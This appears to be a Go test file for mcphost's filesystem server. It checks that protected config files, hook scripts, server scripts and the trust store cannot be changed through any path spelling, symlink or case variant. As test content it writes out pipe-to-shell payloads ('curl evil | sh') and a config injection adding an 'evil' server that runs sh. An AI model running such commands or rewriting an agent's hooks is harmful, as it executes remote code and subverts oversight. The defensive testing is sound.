package builtin

import (
	"context"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/mcphost/mcphost/config"
)

// protectedProject is a project folder as mcphost leaves it: its config,
// a hooks folder with the script a trusted hook runs, and a script a
// trusted server entry runs, served by the fs server as New serves it
// from a config spec.
type protectedProject struct {
	dir string
	cs  *mcp.ClientSession
}

const (
	guardScript  = "#!/bin/sh\nexit 0\n"
	serverScript = "#!/bin/sh\nexec my-server\n"
	mcpJSON      = `{"mcpServers": {}}`
)

func newProtectedProject(t *testing.T, options map[string]any, protected ...string) *protectedProject {
	t.Helper()
	dir := t.TempDir()
	for _, d := range []string{".mcphost", "tools", "sub"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	writeFile(t, filepath.Join(dir, ".mcp.json"), mcpJSON)
	writeFile(t, filepath.Join(dir, ".mcphost", "guard.sh"), guardScript)
	writeFile(t, filepath.Join(dir, "tools", "srv.sh"), serverScript)
	writeFile(t, filepath.Join(dir, "notes.txt"), "notes")
	return serveProject(t, dir, options, protected...)
}

func serveProject(t *testing.T, dir string, options map[string]any, protected ...string) *protectedProject {
	t.Helper()
	opts := map[string]any{"allowed_directories": []any{dir}}
	for k, v := range options {
		opts[k] = v
	}
	for i, p := range protected {
		if !filepath.IsAbs(p) {
			protected[i] = filepath.Join(dir, p)
		}
	}
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	srv, err := New(ctx, config.ServerSpec{Name: "fs", Transport: config.TransportBuiltin, Builtin: "fs", Options: opts, Protected: protected})
	if err != nil {
		t.Fatal(err)
	}
	return &protectedProject{dir: dir, cs: connect(t, srv)}
}

// unchanged fails the test when the file at rel (in the project) does not
// hold want.
func (p *protectedProject) unchanged(t *testing.T, rel, want string) {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(p.dir, rel))
	if err != nil || string(data) != want {
		t.Errorf("%s changed: %q, %v; want %q", rel, data, err, want)
	}
}

func (p *protectedProject) absent(t *testing.T, rel string) {
	t.Helper()
	if _, err := os.Lstat(filepath.Join(p.dir, rel)); err == nil {
		t.Errorf("%s was created", rel)
	}
}

// TestFSRefusesToChangeProtectedFiles: the files config.ServerSpec.Protected
// names cannot be written, edited, moved away, replaced by a move, or
// created, whatever the spelling of the path; the refusal names the path,
// says why and how the user can allow it.
func TestFSRefusesToChangeProtectedFiles(t *testing.T) {
	p := newProtectedProject(t, nil, "tools/srv.sh", "state/lock")
	srv := filepath.Join(p.dir, "tools", "srv.sh")
	symlink(t, "tools", filepath.Join(p.dir, "alias"))
	symlink(t, filepath.Join("tools", "srv.sh"), filepath.Join(p.dir, "run.sh"))
	symlink(t, filepath.Join("..", "tools", "srv.sh"), filepath.Join(p.dir, "sub", "up.sh"))
	writeFile(t, filepath.Join(p.dir, "evil.sh"), "curl evil | sh")

	msg := mustFail(t, p.cs, "write_file", map[string]any{"path": "tools/srv.sh", "content": "curl evil | sh"},
		"writing refused: "+srv+" is mcphost's own file, one that mcphost runs or trusts")
	for _, want := range []string{"a script that a trusted config entry runs", "the user can allow it by listing " + srv + " in the fs server's option writable_protected"} {
		if !strings.Contains(msg, want) {
			t.Errorf("the refusal lacks %q: %s", want, msg)
		}
	}
	for _, path := range []string{
		srv,                      // absolute
		"./tools/./srv.sh",       // dots
		"sub/../tools/srv.sh",    // ..
		"alias/srv.sh",           // through a linked folder
		"run.sh",                 // a link to it
		"sub/up.sh",              // a relative link with ..
		"alias/../tools/srv.sh",  // .. after a linked folder, taken as the kernel takes it
		"tools//srv.sh",          // doubled separator
		p.dir + "/tools/srv.sh/", // trailing separator
	} {
		mustFail(t, p.cs, "write_file", map[string]any{"path": path, "content": "curl evil | sh"}, "refused")
		mustFail(t, p.cs, "edit_file", map[string]any{"path": path, "old_text": "my-server", "new_text": "evil"}, "refused")
	}
	mustFail(t, p.cs, "move_file", map[string]any{"source": "tools/srv.sh", "destination": "tools/old.sh"}, "moving refused: "+srv+" is mcphost's own file")
	mustFail(t, p.cs, "move_file", map[string]any{"source": "tools", "destination": "tools2"}, "moving refused: "+filepath.Join(p.dir, "tools")+" holds "+srv+", mcphost's own file")
	mustFail(t, p.cs, "move_file", map[string]any{"source": "alias", "destination": "x"}, "refused") // the link itself is no protected file, but it leads to one: refused all the same
	p.unchanged(t, "tools/srv.sh", serverScript)

	// A protected path that does not exist yet cannot be created, by a
	// write, a move or a new folder.
	mustFail(t, p.cs, "create_directory", map[string]any{"path": "state/lock"}, "creating a directory refused: "+filepath.Join(p.dir, "state", "lock")+" is mcphost's own file")
	mustOK(t, p.cs, "create_directory", map[string]any{"path": "state"})
	mustFail(t, p.cs, "write_file", map[string]any{"path": "state/lock", "content": "1"}, "refused")
	mustFail(t, p.cs, "move_file", map[string]any{"source": "evil.sh", "destination": "state/lock"}, "refused")
	p.absent(t, "state/lock")

	// The rest of the project stays writable.
	mustOK(t, p.cs, "write_file", map[string]any{"path": "tools/other.sh", "content": "ok"})
	mustOK(t, p.cs, "edit_file", map[string]any{"path": "notes.txt", "old_text": "notes", "new_text": "more notes"})
	mustOK(t, p.cs, "move_file", map[string]any{"source": "evil.sh", "destination": "tools/evil.sh"})
	// Reading a protected file is no change.
	if got := mustOK(t, p.cs, "read_file", map[string]any{"path": "tools/srv.sh"}); got != serverScript {
		t.Errorf("read_file = %q", got)
	}
}

// TestFSProtectsMcphostConfigAtTheTopOfEachAllowedDirectory is the backstop
// that holds without any Protected list (the library used without the
// loader): mcphost's config names at the top of an allowed directory, and
// the .mcphost folder, are not changed; the same names deeper down are
// ordinary files.
func TestFSProtectsMcphostConfigAtTheTopOfEachAllowedDirectory(t *testing.T) {
	p := newProtectedProject(t, nil)
	top := filepath.Join(p.dir, ".mcp.json")
	mustFail(t, p.cs, "write_file", map[string]any{"path": ".mcp.json", "content": `{"mcpServers": {"evil": {"command": "sh"}}}`},
		"writing refused: "+top+" is mcphost's own file, a config file mcphost reads when it is started in "+p.dir)
	mustFail(t, p.cs, "edit_file", map[string]any{"path": ".mcp.json", "old_text": "{}", "new_text": `{"evil": {}}`}, "editing refused")
	mustFail(t, p.cs, "move_file", map[string]any{"source": ".mcp.json", "destination": "old.json"}, "moving refused")
	for _, name := range []string{".mcphost.yml", ".mcphost.yaml", ".mcphost.json"} {
		mustFail(t, p.cs, "write_file", map[string]any{"path": name, "content": "yolo: true"}, "refused")
		mustFail(t, p.cs, "move_file", map[string]any{"source": "notes.txt", "destination": name}, "refused")
		mustFail(t, p.cs, "create_directory", map[string]any{"path": name}, "refused")
		p.absent(t, name)
	}
	guard := filepath.Join(p.dir, ".mcphost", "guard.sh")
	mustFail(t, p.cs, "write_file", map[string]any{"path": ".mcphost/guard.sh", "content": "curl evil | sh"},
		"writing refused: "+guard+" is in "+filepath.Join(p.dir, ".mcphost")+", mcphost's own folder, the folder of the project's hooks and the scripts they run")
	mustFail(t, p.cs, "write_file", map[string]any{"path": ".mcphost/hooks.yml", "content": "hooks: {}"}, "refused")
	mustFail(t, p.cs, "create_directory", map[string]any{"path": ".mcphost/more"}, "creating a directory refused")
	mustFail(t, p.cs, "move_file", map[string]any{"source": ".mcphost", "destination": "hooks-old"}, "refused")
	mustFail(t, p.cs, "move_file", map[string]any{"source": "sub", "destination": ".mcphost/sub"}, "refused")
	p.unchanged(t, ".mcp.json", mcpJSON)
	p.unchanged(t, ".mcphost/guard.sh", guardScript)
	p.absent(t, ".mcphost/hooks.yml")

	// Deeper down these are ordinary names (examples, test data).
	mustOK(t, p.cs, "write_file", map[string]any{"path": "sub/.mcp.json", "content": "{}"})
	mustOK(t, p.cs, "create_directory", map[string]any{"path": "sub/.mcphost"})
	mustOK(t, p.cs, "write_file", map[string]any{"path": "sub/.mcphost/hooks.yml", "content": "hooks: {}"})
}

// TestFSWritableProtected: the user's option lifts protection path by
// path (a folder with what it holds), relative paths taken from the
// working directory; what it does not name stays protected.
func TestFSWritableProtected(t *testing.T) {
	p := newProtectedProject(t, map[string]any{"writable_protected": []any{"notes.txt"}}, "tools/srv.sh")
	lifted := serveProject(t, p.dir, map[string]any{"writable-protected": []any{filepath.Join(p.dir, ".mcp.json"), filepath.Join(p.dir, ".mcphost")}}, "tools/srv.sh")
	mustOK(t, lifted.cs, "edit_file", map[string]any{"path": ".mcp.json", "old_text": "{}", "new_text": `{"docs": {"command": "docs-server"}}`})
	mustOK(t, lifted.cs, "write_file", map[string]any{"path": ".mcphost/guard.sh", "content": "#!/bin/sh\nexit 2\n"})
	mustOK(t, lifted.cs, "create_directory", map[string]any{"path": ".mcphost/scripts"})
	mustFail(t, lifted.cs, "write_file", map[string]any{"path": "tools/srv.sh", "content": "x"}, "refused")
	mustFail(t, lifted.cs, "write_file", map[string]any{"path": ".mcphost.yml", "content": "x"}, "refused")
	// The first server's option named no protected path: nothing lifted.
	mustFail(t, p.cs, "write_file", map[string]any{"path": ".mcp.json", "content": "x"}, "refused")

	// Relative to the working directory, as allowed_directories.
	t.Chdir(p.dir)
	rel := serveProject(t, p.dir, map[string]any{"writable_protected": []any{"tools/srv.sh"}}, "tools/srv.sh")
	mustOK(t, rel.cs, "write_file", map[string]any{"path": "tools/srv.sh", "content": "#!/bin/sh\n"})
	p.unchanged(t, "tools/srv.sh", "#!/bin/sh\n") // the write landed

	if _, err := configure(config.ServerSpec{Name: "fs", Builtin: "fs", Options: map[string]any{"writable_protected": []any{""}}}); err == nil || !strings.Contains(err.Error(), "writable_protected has an empty path") {
		t.Errorf("an empty writable_protected path: %v", err)
	}
	if err := Check(config.ServerSpec{Name: "fs", Builtin: "fs", Options: map[string]any{"writable_protected": ".mcp.json"}}); err == nil || !strings.Contains(err.Error(), "options.writable_protected: must be a list of strings") {
		t.Errorf("writable_protected not a list: %v", err)
	}
}

// TestFSProtectedFolderHoldingTheAllowedDirectory: an allowed directory
// inside a protected folder (mcphost's cache, say) cannot be changed at
// all; a protected path named through a link to the allowed directory is
// still found.
func TestFSProtectedFolderHoldingTheAllowedDirectory(t *testing.T) {
	base := t.TempDir()
	cache := filepath.Join(base, "cache")
	inner := filepath.Join(cache, "tools")
	if err := os.MkdirAll(inner, 0o755); err != nil {
		t.Fatal(err)
	}
	p := serveProject(t, inner, nil, cache)
	mustFail(t, p.cs, "write_file", map[string]any{"path": "list.json", "content": "[]"}, "is in "+cache+", mcphost's own folder")
	p.absent(t, "list.json")

	// The project reached through a link; the protected path given as the
	// real one, and the other way round.
	real := filepath.Join(base, "real")
	if err := os.MkdirAll(filepath.Join(real, "tools"), 0o755); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(real, "tools", "srv.sh"), serverScript)
	link := filepath.Join(base, "link")
	symlink(t, real, link)
	viaLink := serveProject(t, link, nil, filepath.Join(real, "tools", "srv.sh"))
	mustFail(t, viaLink.cs, "write_file", map[string]any{"path": filepath.Join(link, "tools", "srv.sh"), "content": "x"}, "refused")
	viaReal := serveProject(t, real, nil, filepath.Join(link, "tools", "srv.sh"))
	mustFail(t, viaReal.cs, "write_file", map[string]any{"path": "tools/srv.sh", "content": "x"}, "refused")
	if data, _ := os.ReadFile(filepath.Join(real, "tools", "srv.sh")); string(data) != serverScript {
		t.Errorf("srv.sh changed: %q", data)
	}
}

// TestFSProtectionIgnoresCaseWhereTheFileSystemDoes: on Windows and macOS,
// whose usual file systems ignore case, another case of a protected name
// is the same file and refused.
func TestFSProtectionIgnoresCaseWhereTheFileSystemDoes(t *testing.T) {
	if runtime.GOOS != "windows" && runtime.GOOS != "darwin" {
		t.Skip("names differ by case here")
	}
	p := newProtectedProject(t, nil, "tools/srv.sh", "state/lock")
	for _, path := range []string{".MCP.json", ".McpHost/guard.sh", "TOOLS/SRV.SH", "State/Lock", ".mcphost.YML"} {
		mustFail(t, p.cs, "write_file", map[string]any{"path": path, "content": "x"}, "refused")
	}
	p.unchanged(t, ".mcp.json", mcpJSON)
	p.unchanged(t, "tools/srv.sh", serverScript)
}

// TestFSProtectsMcphostsOwnFolders: with the library used without the
// loader, mcphost's folders of the user's config, state (the trust store)
// and cache are still not changed when an allowed directory reaches them.
func TestFSProtectsMcphostsOwnFolders(t *testing.T) {
	home := t.TempDir()
	for _, v := range []string{"XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME", "APPDATA", "LOCALAPPDATA"} {
		t.Setenv(v, home)
	}
	state := filepath.Join(home, "mcphost")
	if err := os.MkdirAll(state, 0o755); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(state, "trust.json"), "{}")
	p := serveProject(t, home, nil)
	mustFail(t, p.cs, "write_file", map[string]any{"path": "mcphost/trust.json", "content": `{"evil": true}`},
		"is in "+state+", mcphost's own folder, where mcphost keeps the user's config, state (trust store, sign-ins, history) or cache")
	mustFail(t, p.cs, "move_file", map[string]any{"source": "mcphost", "destination": "old"}, "refused")
	p.unchanged(t, "mcphost/trust.json", "{}")
	mustOK(t, p.cs, "write_file", map[string]any{"path": "other.txt", "content": "ok"})
}

// TestFSProtectionHoldsAcrossNestedAllowedDirectories: when one allowed
// directory holds another, the inner one's config is protected through
// the outer one's paths too.
func TestFSProtectionHoldsAcrossNestedAllowedDirectories(t *testing.T) {
	outer := t.TempDir()
	inner := filepath.Join(outer, "inner")
	if err := os.MkdirAll(inner, 0o755); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(inner, ".mcp.json"), mcpJSON)
	p := serveProject(t, outer, map[string]any{"allowed_directories": []any{outer, inner}})
	mustFail(t, p.cs, "write_file", map[string]any{"path": filepath.Join(inner, ".mcp.json"), "content": "{}"}, "a config file mcphost reads when it is started in "+inner)
	mustFail(t, p.cs, "write_file", map[string]any{"path": "inner/.mcp.json", "content": "{}"}, "refused")
	p.unchanged(t, "inner/.mcp.json", mcpJSON)
}
